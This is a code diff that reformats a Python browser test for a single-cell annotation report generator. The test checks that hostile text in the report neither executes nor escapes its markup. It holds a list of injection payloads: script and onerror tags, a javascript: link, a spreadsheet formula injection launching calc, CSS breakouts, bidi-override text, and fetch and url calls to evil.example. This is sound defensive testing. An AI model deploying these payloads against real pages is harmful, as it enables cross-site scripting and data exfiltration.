@@ -19,41 +19,96 @@ from cassia_core.runs.store import RunRecord
 from tests.reporting import a_call, material_of, report_of
 
 pytestmark = pytest.mark.browser
-HOSTILE = ("<script>window.hit=1</script>", "<img src=http://evil.example/x onerror='window.hit=2'>",
-           "</script><script>window.hit=3</script>", "[link](javascript:window.hit=4)", "=cmd|' /C calc'!A0",
-           "\u202egnitirw", "\" onmouseover=\"window.hit=5", "{{ 7*7 }}", "</style><style>body{display:none}", "$\\alpha$",
-           "</svg><script>window.hit=6</script>", "\\22 } body{display:none} a{x:\"", "\u2069\u202eesrever",
-           "url(http://evil.example/y)", "'); fetch('http://evil.example/z'); ('")
+HOSTILE = (
+    "<script>window.hit=1</script>",
+    "<img src=http://evil.example/x onerror='window.hit=2'>",
+    "</script><script>window.hit=3</script>",
+    "[link](javascript:window.hit=4)",
+    "=cmd|' /C calc'!A0",
+    "\u202egnitirw",
+    '" onmouseover="window.hit=5',
+    "{{ 7*7 }}",
+    "</style><style>body{display:none}",
+    "$\\alpha$",
+    "</svg><script>window.hit=6</script>",
+    '\\22 } body{display:none} a{x:"',
+    "\u2069\u202eesrever",
+    "url(http://evil.example/y)",
+    "'); fetch('http://evil.example/z'); ('",
+)
 
 
 def hostile_row(number: int, text: str) -> ClusterResult:
-    proposal = Proposal(general=text, subtypes=(text, text + "2"), mixed=(text,), key_genes=(text,), reasoning=text)
-    evidence = Evidence(label=text, basis="cells", score=50.0, best_alternative=text, alternative_score=1.0, items=(
-        EvidenceItem(gene=text, kind="supporting", text=text),), problems=(text,))
+    proposal = Proposal(
+        general=text, subtypes=(text, text + "2"), mixed=(text,), key_genes=(text,), reasoning=text
+    )
+    evidence = Evidence(
+        label=text,
+        basis="cells",
+        score=50.0,
+        best_alternative=text,
+        alternative_score=1.0,
+        items=(EvidenceItem(gene=text, kind="supporting", text=text),),
+        problems=(text,),
+    )
     return ClusterResult(
-        cluster=f"{number}{text}", status="needs_review", reason=text, n_cells=10, markers=(text, "CD3D"),
-        proposal=proposal, evidence=evidence, score=QualityScore(value=1.0, reasoning=text, model=text), light="look",
-        light_reason=text, boost=Boost(before=proposal, after=proposal, reason=text),
-        turns=(Turn(role="annotator", attempt=1, text=f"CD3D {text}", model=text, outcome="not_passed"),), model=text,
-        provider=text)
+        cluster=f"{number}{text}",
+        status="needs_review",
+        reason=text,
+        n_cells=10,
+        markers=(text, "CD3D"),
+        proposal=proposal,
+        evidence=evidence,
+        score=QualityScore(value=1.0, reasoning=text, model=text),
+        light="look",
+        light_reason=text,
+        boost=Boost(before=proposal, after=proposal, reason=text),
+        turns=(Turn(role="annotator", attempt=1, text=f"CD3D {text}", model=text, outcome="not_passed"),),
+        model=text,
+        provider=text,
+    )
 
 
 def write_hostile(path: Path) -> tuple[ClusterResult, ...]:
     rows = tuple(hostile_row(i, text) for i, text in enumerate(HOSTILE))
     spec = DatasetSpec(name="".join(HOSTILE), path="x.h5ad", tissue=HOSTILE[1], context=HOSTILE[2])
-    edits = {rows[i].cluster: EditedLabel(label=HOSTILE[-1 - i], cl_id=text, original=text, reason=text, at=text)
-             for i, text in enumerate(HOSTILE[:6])}
-    samples = SampleCounts(column=HOSTILE[0], samples=HOSTILE, clusters=tuple(r.cluster for r in rows),
-                           cells=np.ones((len(HOSTILE), len(rows)), dtype=int))
+    edits = {
+        rows[i].cluster: EditedLabel(label=HOSTILE[-1 - i], cl_id=text, original=text, reason=text, at=text)
+        for i, text in enumerate(HOSTILE[:6])
+    }
+    samples = SampleCounts(
+        column=HOSTILE[0],
+        samples=HOSTILE,
+        clusters=tuple(r.cluster for r in rows),
+        cells=np.ones((len(HOSTILE), len(rows)), dtype=int),
+    )
     calls = tuple(a_call(text, text) for text in HOSTILE)
-    report_of(rows, path, spec=spec, edits=edits, notes=HOSTILE, families=dict(zip(HOSTILE, HOSTILE, strict=True)),
-              record=RunRecord(config=RunConfig(datasets=(spec,)), created_at=HOSTILE[0], packages={HOSTILE[0]: HOSTILE[1]},
-                               prompts={HOSTILE[2]: HOSTILE[3]}),
-              outcome=DatasetOutcome(dataset="x", tissue="x", file_path="x", n_cells=100, error=HOSTILE[1]),
-              findings=Findings(kind="cells", format="h5ad", n_cells=100, n_genes=5, done=HOSTILE,
-                                found=(Finding(topic="Size", value=HOSTILE[0], remark=HOSTILE[1]),)),
-              material=replace(material_of(rows, calls=calls, stages={"qc": HOSTILE[0], "leiden": HOSTILE[2]}),
-                               samples=samples))
+    report_of(
+        rows,
+        path,
+        spec=spec,
+        edits=edits,
+        notes=HOSTILE,
+        families=dict(zip(HOSTILE, HOSTILE, strict=True)),
+        record=RunRecord(
+            config=RunConfig(datasets=(spec,)),
+            created_at=HOSTILE[0],
+            packages={HOSTILE[0]: HOSTILE[1]},
+            prompts={HOSTILE[2]: HOSTILE[3]},
+        ),
+        outcome=DatasetOutcome(dataset="x", tissue="x", file_path="x", n_cells=100, error=HOSTILE[1]),
+        findings=Findings(
+            kind="cells",
+            format="h5ad",
+            n_cells=100,
+            n_genes=5,
+            done=HOSTILE,
+            found=(Finding(topic="Size", value=HOSTILE[0], remark=HOSTILE[1]),),
+        ),
+        material=replace(
+            material_of(rows, calls=calls, stages={"qc": HOSTILE[0], "leiden": HOSTILE[2]}), samples=samples
+        ),
+    )
     return rows
 
 
@@ -82,7 +137,9 @@ def test_hostile_text_in_a_report_neither_runs_nor_breaks_out_nor_calls_home(pag
     handlers = "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length"
     assert page.evaluate(handlers) == 0
     links = page.evaluate("[...document.querySelectorAll('a')].map(a => a.getAttribute('href'))")
-    assert all(link.startswith("#") for link in links), "no id of the Cell Ontology among them, so no link leaves"
+    assert all(link.startswith("#") for link in links), (
+        "no id of the Cell Ontology among them, so no link leaves"
+    )
     for i, text in enumerate(HOSTILE):
         assert text in page.locator("#clusters tbody tr").nth(i).text_content()
 
